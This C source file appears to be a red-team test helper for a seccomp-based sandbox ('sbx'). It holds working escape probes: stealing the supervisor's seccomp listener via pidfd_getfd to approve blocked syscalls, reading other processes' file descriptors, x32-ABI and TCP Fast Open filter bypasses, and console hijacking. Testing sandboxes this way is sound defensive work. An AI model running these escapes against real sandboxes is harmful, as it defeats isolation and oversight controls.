// rt: red-team helper for sbx. Usage: rt OP [ARGS...]; prints one verdict line.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/inotify.h>
#include <sys/fanotify.h>
#include <termios.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/prctl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <arpa/inet.h>
#include <unistd.h>

static const char *en(int e) {
	switch (e) {
	case 0: return "ok"; case EPERM: return "EPERM"; case EACCES: return "EACCES"; case ENOSYS: return "ENOSYS";
	case EBADF: return "EBADF"; case ESRCH: return "ESRCH"; case EINVAL: return "EINVAL"; case EEXIST: return "EEXIST";
	case ENOENT: return "ENOENT"; case EROFS: return "EROFS"; case EXDEV: return "EXDEV"; case EAFNOSUPPORT: return "EAFNOSUPPORT";
	case ECONNREFUSED: return "ECONNREFUSED"; case EINPROGRESS: return "EINPROGRESS"; case EOPNOTSUPP: return "EOPNOTSUPP";
	case EPROTONOSUPPORT: return "EPROTONOSUPPORT"; case ENETUNREACH: return "ENETUNREACH"; case ENXIO: return "ENXIO";
	case EBUSY: return "EBUSY"; case ENOTDIR: return "ENOTDIR"; case EISDIR: return "EISDIR"; case ETXTBSY: return "ETXTBSY";
	case EADDRNOTAVAIL: return "EADDRNOTAVAIL"; case ESOCKTNOSUPPORT: return "ESOCKTNOSUPPORT"; case EPROTOTYPE: return "EPROTOTYPE";
	}
	static char b[32]; snprintf(b, sizeof b, "errno%d", e); return b;
}
#define R(x) do { long _r = (x); printf("%s\n", _r < 0 ? en(errno) : "ok"); return 0; } while (0)

static void onalrm(int s) { (void)s; }
// steal-listener NAME: take the seccomp listener from PID 1 (the supervisor)
// with pidfd_getfd, then answer our own child's mkdir(NAME) with CONTINUE.
static int steal_listener(const char *name) {
	int pfd = syscall(SYS_pidfd_open, 1, 0);
	if (pfd < 0) { printf("pidfd_open %s\n", en(errno)); return 0; }
	int lfd = -1;
	for (int fd = 3; fd < 64; fd++) {
		int t = syscall(SYS_pidfd_getfd, pfd, fd, 0);
		if (t < 0) { if (errno != EBADF) { printf("pidfd_getfd %s\n", en(errno)); return 0; } continue; }
		char p[64], l[128] = {0}; snprintf(p, sizeof p, "/proc/self/fd/%d", t);
		readlink(p, l, sizeof l - 1);
		if (strstr(l, "seccomp")) { lfd = t; break; }
		close(t);
	}
	if (lfd < 0) { printf("no listener\n"); return 0; }
	for (int tries = 0; tries < 200; tries++) {
		pid_t c = fork();
		if (c == 0) { usleep(1000); _exit(mkdir(name, 0755) == 0 ? 0 : 1); }
		struct seccomp_notif n; memset(&n, 0, sizeof n);
		struct sigaction sa = {0}; sa.sa_handler = onalrm; sigaction(SIGALRM, &sa, NULL);
		ualarm(200000, 0);
		int got = ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &n) == 0;
		ualarm(0, 0);
		if (got) {
			struct seccomp_notif_resp r = {.id = n.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
			if (n.pid != (unsigned)c) { r.flags = 0; r.error = -EPERM; } // not ours: be polite? just continue anyway
			r.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE; r.error = 0;
			ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &r);
		}
		int st; waitpid(c, &st, 0);
		struct stat sb;
		if (lstat(name, &sb) == 0) { printf("created %s\n", name); return 0; }
	}
	printf("not created\n");
	return 0;
}

int main(int argc, char **argv) {
	if (argc < 2) return 2;
	const char *op = argv[1];
	setvbuf(stdout, NULL, _IONBF, 0);
	if (!strcmp(op, "steal-listener")) return steal_listener(argv[2]);
	if (!strcmp(op, "pidfd-getfd")) { // pidfd-getfd PID FD
		int pfd = syscall(SYS_pidfd_open, atoi(argv[2]), 0);
		if (pfd < 0) R(-1);
		R(syscall(SYS_pidfd_getfd, pfd, atoi(argv[3]), 0));
	}
	if (!strcmp(op, "steal-read")) { // steal-read PID FD: pidfd_getfd then print what it reads
		int pfd = syscall(SYS_pidfd_open, atoi(argv[2]), 0);
		if (pfd < 0) R(-1);
		int fd = syscall(SYS_pidfd_getfd, pfd, atoi(argv[3]), 0);
		if (fd < 0) R(-1);
		char b[128] = {0}; lseek(fd, 0, SEEK_SET);
		ssize_t n = read(fd, b, sizeof b - 1);
		if (n < 0) R(-1);
		printf("read: %s\n", b); return 0;
	}
	if (!strcmp(op, "x32-socket")) // x32 ABI entry (bit 30): must not bypass the socket filter
		R(syscall(0x40000000 | SYS_socket, AF_INET, SOCK_DGRAM, 0));
	if (!strcmp(op, "tfo")) { // tfo PORT: TCP Fast Open sendto (connects without connect())
		int s = socket(AF_INET, SOCK_STREAM, 0);
		if (s < 0) R(-1);
		struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
		a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		alarm(5);
		if (sendto(s, "hi", 2, MSG_FASTOPEN, (struct sockaddr *)&a, sizeof a) < 0) R(-1);
		char b[32] = {0};
		if (read(s, b, sizeof b - 1) < 0) R(-1);
		printf("connected: %s\n", b); return 0;
	}
	if (!strcmp(op, "tfo-sendmsg")) { // tfo-sendmsg PORT: the same through sendmsg's msg_name (IPv4-mapped IPv6)
		int s = socket(AF_INET6, SOCK_STREAM, 0);
		if (s < 0) R(-1);
		struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(argv[2]))};
		inet_pton(AF_INET6, "::ffff:127.0.0.1", &a.sin6_addr);
		struct iovec iov = {.iov_base = "hi", .iov_len = 2};
		struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &iov, .msg_iovlen = 1};
		alarm(5);
		if (sendmsg(s, &m, MSG_FASTOPEN) < 0) R(-1);
		char b[32] = {0};
		if (read(s, b, sizeof b - 1) < 0) R(-1);
		printf("connected: %s\n", b); return 0;
	}
	if (!strcmp(op, "tmpfile-link")) { // tmpfile-link NAME: O_TMPFILE in . then linkat(AT_EMPTY_PATH)
		int fd = open(".", O_TMPFILE | O_RDWR, 0600);
		if (fd < 0) R(-1);
		R(linkat(fd, "", AT_FDCWD, argv[2], AT_EMPTY_PATH));
	}
	if (!strcmp(op, "whiteout")) // whiteout OLD NEW: renameat2(RENAME_WHITEOUT) leaves a 0:0 char device at OLD
		R(syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 4 /* RENAME_WHITEOUT */));
	if (!strcmp(op, "fanotify")) R(fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_FID, 0));
	if (!strcmp(op, "tiocsetd")) { // tiocsetd LDISC: on a fresh pty master
		int m = open("/dev/ptmx", O_RDWR | O_NOCTTY);
		if (m < 0) R(-1);
		int ld = atoi(argv[2]);
		R(ioctl(m, TIOCSETD, &ld));
	}
	if (!strcmp(op, "tioccons")) { // tioccons: redirect the console to a fresh pty
		int m = open("/dev/ptmx", O_RDWR | O_NOCTTY);
		if (m < 0) R(-1);
		R(ioctl(m, TIOCCONS));
	}
	if (!strcmp(op, "inotify")) { // inotify DIR: print the name of the first entry created in DIR
		int in = inotify_init1(0);
		if (in < 0 || inotify_add_watch(in, argv[2], IN_CREATE) < 0) R(-1);
		printf("watching\n"); fflush(stdout);
		alarm(5);
		char b[4096] __attribute__((aligned(8)));
		if (read(in, b, sizeof b) <= 0) R(-1);
		struct inotify_event *e = (void *)b;
		printf("event %s\n", e->len ? e->name : ""); return 0;
	}
	printf("unknown op\n");
	return 2;
}
